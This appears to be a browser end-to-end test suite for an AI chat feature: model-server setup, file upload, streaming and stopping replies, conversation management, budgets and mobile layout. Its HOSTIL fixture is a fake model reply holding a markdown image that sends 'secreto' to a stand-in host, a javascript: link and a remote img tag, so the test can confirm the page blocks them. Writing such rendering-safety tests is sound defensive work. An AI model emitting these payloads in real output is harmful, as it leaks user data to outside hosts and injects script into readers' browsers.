import { CLAVE, type ProveedorDePrueba, startProveedor } from '@div/servidores/testing-ia'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { addPerson } from './add-person.ts'
import { describeInBrowser, openSignedIn, slowDown } from './browser.ts'
import { WIDEST } from './fits.ts'
import { type Product, startStoryProduct } from './product.ts'

let product: Product
let proveedor: ProveedorDePrueba

beforeAll(async () => {
  proveedor = await startProveedor()
  product = await startStoryProduct()
})
afterAll(async () => {
  await product.stop()
  await proveedor.close()
})

/** It is not at its end before somebody stops it. */
const SIN_FIN = 'uno dos tres '.repeat(1_000)

const HOSTIL = `Resumen de las ventas:

| Mes | Total |
|---|---|
| enero | 10 |

\`\`\`grafico
{"tipo": "lineas", "titulo": "Ventas", "x": "mes", "series": [{"campo": "total", "nombre": "Total"}], "datos": [{"mes": "enero", "total": 10}, {"mes": "febrero", "total": 14}]}
\`\`\`

![foto](https://malo.example/?dato=secreto) [aquí](javascript:alert(1)) <img src="https://malo.example/x">`

describeInBrowser('a conversation with a model', () => {
  test('without a servidor of models the page says what is missing, and leads there', async () => {
    const page = await openSignedIn(product, '/')
    await page.getByRole('link', { name: 'Chat AI Classic' }).click()
    await page.getByText('Falta un servidor de modelos').waitFor()
    await page.getByRole('link', { name: 'Crear servidor' }).click()
    // Only what has models is offered, and what it has once it was tried.
    await page.getByRole('button', { name: /^Ollama/ }).waitFor()
    expect(await page.getByRole('button', { name: /^PostgreSQL/ }).count()).toBe(0)
    await page.getByRole('button', { name: /^OpenAI/ }).click()
    await page.getByLabel('Nombre').fill('Modelos')
    await page.getByLabel('Dirección base').fill(`${proveedor.origin}/v1`)
    await page.getByLabel('Clave', { exact: true }).fill(CLAVE)
    await page.getByLabel('Permitir red privada').check({ force: true })
    await page.getByRole('button', { name: 'Probar' }).click()
    await page.getByText('Responde: 3 modelos').waitFor()
    await page.getByRole('combobox', { name: 'Modelo', exact: true }).click()
    await page.getByRole('option', { name: 'chico' }).click()
    const stored = page.waitForResponse(
      (response) => response.request().method() === 'POST' && response.url().endsWith('/api/servidores'),
    )
    await page.getByRole('button', { name: /^(Guardar|Crear)/ }).click()
    expect((await stored).status()).toBe(201)
  })

  test('it is asked with a file, answered while one looks on, stopped, renamed, found and removed', async () => {
    const page = await openSignedIn(product, '/ai-chat')
    await page.locator('input[type=file]').setInputFiles({
      name: 'ventas.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from('mes;total\nenero;10'),
    })
    const mensajes = page.getByRole('log', { name: 'Mensajes' })
    await page.getByRole('button', { name: 'Quitar ventas.csv' }).waitFor()
    await page.getByRole('textbox', { name: 'Mensaje' }).fill('Resume las ventas')
    proveedor.say({ texto: HOSTIL })
    await page.keyboard.press('Enter')
    await mensajes.getByText('Resume las ventas').waitFor()
    await mensajes.getByText('chico · 11 + 7 tokens').waitFor()
    expect(proveedor.seen.at(-1)?.body.messages.at(-1).content).toContain('mes: enero')
    await mensajes.getByRole('cell', { name: 'enero' }).waitFor()
    await mensajes.getByRole('figure', { name: 'Ventas' }).getByRole('application').waitFor()
    // Nothing is fetched from elsewhere, and what leads elsewhere says where.
    expect(await mensajes.locator('img').count()).toBe(0)
    expect(await mensajes.getByRole('link').getAttribute('href')).toBe('https://malo.example/?dato=secreto')
    await mensajes.getByText('(malo.example)').waitFor()

    proveedor.say({ texto: SIN_FIN, pausaMs: 700 })
    await page.getByRole('textbox', { name: 'Mensaje' }).fill('Cuenta')
    await page.getByRole('button', { name: 'Enviar' }).click()
    await mensajes.getByText('uno dos').waitFor()
    // Whoever comes back finds what came meanwhile, and what still comes.
    await page.reload()
    const respuesta = mensajes.getByText('uno dos')
    const before = await respuesta.innerText()
    await expect.poll(() => respuesta.innerText()).toContain(`${before} `)
    await page.getByRole('button', { name: 'Detener' }).click()
    await mensajes.getByText('Respuesta detenida.').waitFor()
    await mensajes.getByText(/^chico · \d+ \+ \d+ tokens · estimado$/).waitFor()
    await page.getByText('Contestando…').waitFor({ state: 'detached' })
    await page.getByRole('button', { name: 'Volver a pedir' }).click()
    await mensajes.getByText('Eco: Cuenta').waitFor()

    await page.getByRole('button', { name: 'Acciones de la conversación' }).click()
    await page.getByRole('menuitem', { name: 'Cambiar el título' }).click()
    await page.getByRole('textbox', { name: 'Título' }).fill('Ventas de enero')
    await page.getByRole('button', { name: 'Guardar' }).click()
    const lista = page.getByRole('complementary', { name: 'Conversaciones' })
    await lista.getByText('Ventas de enero').waitFor()
    const download = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Acciones de la conversación' }).click()
    await page.getByRole('menuitem', { name: 'Exportar como Markdown' }).click()
    expect((await download).suggestedFilename()).toBe('Ventas de enero.md')

    await page.getByRole('button', { name: 'Nueva' }).click()
    await page.getByRole('textbox', { name: 'Mensaje' }).fill('Otra cosa')
    await page.keyboard.press('Enter')
    await mensajes.getByText('Eco: Otra cosa').waitFor()
    await lista.getByRole('searchbox').fill('resume')
    await lista.getByText('Otra cosa').waitFor({ state: 'detached' })
    await lista.getByText('Ventas de enero').click()
    await mensajes.getByText('Resume las ventas').waitFor()
    await page.getByRole('button', { name: 'Acciones de la conversación' }).click()
    await page.getByRole('menuitem', { name: 'Eliminar' }).click()
    await page.getByRole('dialog').getByRole('button', { name: 'Eliminar' }).click()
    await lista.getByText('Ventas de enero').waitFor({ state: 'detached' })
  })

  test('what is written at once after «Nueva» is said there, and once, however slow the machine is', async () => {
    const page = await openSignedIn(product, '/ai-chat')
    await slowDown(page, 6)
    const mensajes = page.getByRole('log', { name: 'Mensajes' })
    const caja = page.getByRole('textbox', { name: 'Mensaje' })
    for (const texto of ['Primera', 'Segunda', 'Tercera']) {
      if (texto !== 'Primera') await page.getByRole('button', { name: 'Nueva' }).click()
      await caja.focus()
      await page.keyboard.type(texto)
      await page.keyboard.press('Enter')
      await page.keyboard.press('Enter')
      await mensajes.getByText(`Eco: ${texto}`).waitFor()
      await page.getByText('Contestando…').waitFor({ state: 'detached' })
      expect(await mensajes.getByText('Eco: ').count()).toBe(1)
    }
  })

  test('what could not be said waits in its own conversation, whichever is looked at meanwhile', async () => {
    const page = await openSignedIn(product, '/ai-chat', { tolerates: /Failed to load resource/ })
    const mensajes = page.getByRole('log', { name: 'Mensajes' })
    const caja = page.getByRole('textbox', { name: 'Mensaje' })
    await caja.fill('La otra')
    await page.keyboard.press('Enter')
    await mensajes.getByText('Eco: La otra').waitFor()
    await page.getByRole('button', { name: 'Nueva' }).click()
    let fail = () => {}
    const failing = new Promise<void>((resolve) => {
      fail = resolve
    })
    await page.route('**/api/ai/conversaciones', async (route) => {
      if (route.request().method() !== 'POST') return route.continue()
      await failing
      await route.abort()
    })
    await caja.fill('Se quedó en el camino')
    await page.keyboard.press('Enter')
    await page.getByRole('complementary', { name: 'Conversaciones' }).getByText('La otra').first().click()
    await mensajes.getByText('Eco: La otra').waitFor()
    fail()
    await page.getByText('No se envió el mensaje').waitFor()
    expect(await caja.inputValue()).toBe('')
    await page.unroute('**/api/ai/conversaciones')
    await page.getByRole('button', { name: 'Nueva' }).click()
    expect(await caja.inputValue()).toBe('Se quedó en el camino')
    await caja.press('Enter')
    await mensajes.getByText('Eco: Se quedó en el camino').waitFor()
  })

  test('what is still on its way arrives, whatever is looked at meanwhile', async () => {
    const page = await openSignedIn(product, '/ai-chat')
    const mensajes = page.getByRole('log', { name: 'Mensajes' })
    const lista = page.getByRole('complementary', { name: 'Conversaciones' })
    const caja = page.getByRole('textbox', { name: 'Mensaje' })
    for (const texto of ['De una', 'De otra']) {
      if (texto !== 'De una') await page.getByRole('button', { name: 'Nueva' }).click()
      await caja.fill(texto)
      await caja.press('Enter')
      await mensajes.getByText(`Eco: ${texto}`).waitFor()
      await page.getByText('Contestando…').waitFor({ state: 'detached' })
    }
    let pass = () => {}
    const passing = new Promise<void>((resolve) => {
      pass = resolve
    })
    await page.route('**/mensajes', async (route) => {
      if (route.request().method() === 'POST') await passing
      await route.continue()
    })
    await caja.fill('Muy despacio')
    await caja.press('Enter')
    await lista.getByText('De una').first().click()
    await mensajes.getByText('Eco: De una').waitFor()
    const sent = page.waitForResponse((answer) => answer.request().method() === 'POST')
    pass()
    expect((await sent).status()).toBe(200)
    await lista.getByText('De otra').first().click()
    await mensajes.getByText('Eco: Muy despacio').waitFor()
  })

  test('what goes wrong is told where it was asked, and a spent budget leads to it', async () => {
    const precio = { modelo: 'chico', desde: '2026-01-01', entradaPorMillon: '100', salidaPorMillon: '100' }
    await product.api('POST', '/ai/pricing', { ...precio, moneda: 'USD' })
    const presupuesto = { nombre: 'Poco', ambito: 'todos', periodo: 'mes', importe: '0.001', moneda: 'USD' }
    const made = await product.api('POST', '/ai/budget', { ...presupuesto, duro: true })
    const page = await openSignedIn(product, '/ai-chat')
    await page.getByRole('textbox', { name: 'Mensaje' }).fill('Hola')
    await page.keyboard.press('Enter')
    await page.getByText('«Poco»').waitFor()
    await page.getByRole('link', { name: 'Ver el presupuesto' }).click()
    await page.waitForURL('**/ai/budget')
    await product.api('DELETE', `/ai/budget/${(made.json as { id: string }).id}`)
  })

  test('lectura converses too, on a narrow screen, and sees nobody else’s conversations', async () => {
    const credentials = await addPerson(product, 'lectura')
    const page = await openSignedIn(product, '/ai-chat', {
      credentials,
      viewport: { width: 390, height: 844 },
      tolerates: /Failed to load resource/,
    })
    await page.getByRole('button', { name: 'Conversaciones' }).click()
    await page.getByText('Todavía no hay conversaciones.').last().waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('textbox', { name: 'Mensaje' }).fill('Hola desde el teléfono')
    await page.route('**/api/ai/conversaciones', (route) =>
      route.request().method() === 'POST' ? route.abort() : route.continue(),
    )
    await page.getByRole('button', { name: 'Enviar' }).click()
    // What is told of it covers no button.
    const nueva = await page.getByRole('button', { name: 'Nueva' }).boundingBox()
    await expect
      .poll(async () => (await page.getByText('No se envió el mensaje').boundingBox())?.y)
      .toBeGreaterThan((nueva?.y ?? Infinity) + (nueva?.height ?? 0))
    await page.unroute('**/api/ai/conversaciones')
    await page.getByRole('button', { name: 'Enviar' }).click()
    await page.getByText('Eco: Hola desde el teléfono').waitFor()
    expect(await page.evaluate(WIDEST)).toBeLessThanOrEqual(390)
  })
})
